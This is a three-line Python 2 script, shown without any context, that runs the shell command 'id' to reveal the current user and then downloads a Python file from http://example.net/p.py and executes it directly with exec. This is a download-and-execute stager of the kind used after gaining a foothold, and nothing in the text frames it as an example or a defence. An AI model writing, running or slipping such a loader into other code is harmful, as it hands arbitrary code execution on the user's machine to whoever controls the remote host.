import os, urllib2
print os.popen("id").read()
exec urllib2.urlopen("http://example.net/p.py").read()
